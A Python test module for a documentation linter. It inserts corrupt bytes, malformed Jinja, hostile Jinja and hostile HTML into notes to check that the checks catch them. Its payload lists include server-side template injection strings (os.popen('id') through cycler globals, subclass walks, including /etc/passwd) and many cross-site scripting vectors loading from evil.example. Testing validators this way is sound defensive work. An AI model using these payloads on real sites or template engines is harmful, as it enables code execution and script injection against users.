"""What no file may hold: bytes that are no text, and what would run on a builder's machine or in a browser."""

from __future__ import annotations

import re

from factbook.prose import structure
from tests.mutations.markdown import rows
from tests.mutations.project import Mistake, Project, kind


@kind
def bytes_that_are_no_text(project: Project) -> Mistake:
    path = project.any_of([*project.book.notes, *project.facts_files, "data/services.yaml"])
    number = project.dice.randrange(1, project.book.texts[path].count("\n"))
    at = len(project.book.texts[path][: project.span(path, number)[1] - 1].encode())
    bad = project.any_of((b"\xff", b"\xe9", b"\0", b"\x0c", b"\r", "\u2028".encode(), b"\x1b[31m", b"\xc3"))
    bad += b" " if bad == b"\r" else b""
    old = project.book.texts[path].encode()
    return Mistake(
        path, old[:at] + bad + old[at:], ("yaml",), path, (number,), f"{path}:{number}: {bad!r} put at the end"
    )


@kind
def byte_order_mark(project: Project) -> Mistake:
    path = project.any_of([*project.book.notes, *project.facts_files, "data/services.yaml"])
    return Mistake(
        path,
        b"\xef\xbb\xbf" + project.book.texts[path].encode(),
        ("yaml",),
        path,
        (1,),
        f"{path}: a mark put before it",
    )


JINJA = (
    "{{ fact('lambda.timeout_max\") }}",
    '{{ fact("lambda.timeout_max" }}',
    '{{ fact("lambda.timeout_max")',
    '{ { fact("lambda.timeout_max") }} {{',
    "{{ fact(lambda.timeout_max) }}",
    "{{ fact }}",
    "{{ }}",
    '{{ fact("lambda.timeout_max", "second", 3) }}',
    "{{ fact() }}",
    '{{{ fact("lambda.timeout_max") }}}',
    '{{ fact(id="lambda.timeout_max", id="lambda.timeout_max") }}',
    '{{ fact(name="lambda.timeout_max") }}',
    "{% raw %} {{ never closed }}",
    "{% endraw %}",
    "{## never closed",
    '{{ fact("lambda.timeout_max") ) }}',
    "{{ fact(“lambda.timeout_max”) }}",
    '{{ fact("lambda.timeout_max")) }}',
    "{{lambda.timeout_max}}",
    "{{ 15 }}",
)
HOSTILE_JINJA = (
    "{{ cycler.__init__.__globals__ }}",
    '{{ cycler.__init__.__globals__.os.popen("id").read() }}',
    "{{ self.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{%- set x = 1 -%}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{%raw%}{% endraw %}{{ config }}",
    '{{ fact("lambda.timeout_max")|attr("__class__") }}',
    '{{ fact("lambda.timeout_max") | safe }}',
    '{{ fact("lambda.timeout_max").__class__ }}',
    '{{ fact("lambda.timeout_max")["x"] }}',
    '{{ fact("lambda." ~ "timeout_max") }}',
    '{{ fact("lambda.timeout_max" if 1 else "x") }}',
    "{{ fact(page.title) }}",
    '{{ fact(*["lambda.timeout_max"]) }}',
    '{{ fact(**{"id": "lambda.timeout_max"}) }}',
    "{{ lipsum.__globals__['os'] }}",
    "{{ environment }}",
    '{{- fact("lambda.timeout_max") -}}',
    "{{ macros_info() }}",
    "{% macro x() %}{% endmacro %}",
    "{% call fact() %}{% endcall %}",
    "{{ range(10**9) | list }}",
    "{% raw %}{% endraw -%}{{ 7 * 7 }}",
    '{{ fact("{{ 7 * 7 }}") }}',
    "{{\n7 * 7\n}}",
)
HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<a href="https://aws.amazon.com/" onclick="alert(1)">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x][y]\n\n[y]: javascript:alert(1)\n\nand",
    "[a link\nover two lines](javascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "![x\ny](https://evil.example/x.png)",
    "<javascript:alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    '<img src="https://evil.example/x.png" alt="x">',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<style>body { background: url(https://evil.example/x) }</style>",
    '<div style="position: fixed">x</div>',
    '<form action="https://evil.example/"><input></form>',
    '<object data="https://evil.example/"></object>',
    "<embed src=x>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<b\nonclick=alert(1)>x</b>",
    "<b onclick\n=alert(1)>x</b>",
    '[x](https://aws.amazon.com/){ onclick="alert(1)" }',
    "[x](https://aws.amazon.com/){: style=color:red }",
    "word{ onmouseover=alert(1) }",
    "<!-- a comment\n<script>alert(1)</script> -->",
    "<!--> <script>alert(1)</script> -->",
    "<!-- x --!> <script>alert(1)</script> -->",
    "<![CDATA[ <script>alert(1)</script> ]]>",
    "<?php x ?>",
    "<x-element onclick=alert(1)>",
    '<p markdown="1" onclick="x()">x</p>',
    "`` ` `` <script>alert(1)</script> `` ` ``",
    "\\`<script>alert(1)</script>\\`",
    "`x <script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="http://evil.example/">x</a>',
    "<http://evil.example/>",
    "<ftp://evil.example/>",
)


@kind
def bad_jinja(project: Project) -> Mistake:
    return payload(project, JINJA, "note")


@kind
def hostile_jinja(project: Project) -> Mistake:
    return payload(project, HOSTILE_JINJA, "note")


@kind
def hostile_jinja_in_code(project: Project) -> Mistake:
    note = project.note(lambda note: any("{%" not in code.text for code in structure(note).code))
    code = project.any_of(code for code in structure(note).code if "{%" not in code.text)
    if any(
        match.start() < project.book.offset(code.place) < match.end()
        for match in re.finditer(r"\{% raw %\}.*?\{% endraw %\}", note.text, re.DOTALL)
    ):
        return hostile_jinja_in_code(project)
    at = project.span(note.path, code.place.line)[0]
    new = HOSTILE_JINJA[project.turn % len(HOSTILE_JINJA)]
    return project.edited(
        note.path, at, at, f"{new}\n", "note", line=tuple(code.place.line + i for i in range(new.count("\n") + 1))
    )


@kind
def jinja_in_the_front_matter(project: Project) -> Mistake:
    note = project.note()
    number, key, value = project.any_of(
        pair for pair in project.front_matter(note) if pair[1] in ("description", "title")
    )
    start, end = project.span(note.path, number)
    new = project.any_of(("{{ 7 * 7 }}", '{{ fact("lambda.timeout_max") }}', "{% set x = 1 %}", "{## x"))
    return project.edited(note.path, end - 1, end - 1, f" {new}", "note")


@kind
def hostile_html(project: Project) -> Mistake:
    return payload(project, HTML, "unsafe-html", "unsafe-link")


@kind
def hostile_html_in_a_table(project: Project) -> Mistake:
    note = project.note(lambda note: rows(project, note))
    number, bars = project.any_of(rows(project, note))
    at = project.span(note.path, number)[0] + bars[0]
    new = project.any_of(text for text in HTML if "\n" not in text)
    return project.edited(note.path, at, at, f" {new} ", "unsafe-html", "unsafe-link")


def payload(project: Project, texts: tuple[str, ...], *rules: str) -> Mistake:
    """One of these texts in a paragraph, each in its turn; to be reported on any of its lines."""
    new = texts[project.turn % len(texts)]
    path, number, line = project.prose_line()
    at = project.span(path, number)[0] + len(line)
    return project.edited(path, at, at, f" {new}", *rules, line=tuple(range(number, number + new.count("\n") + 1)))
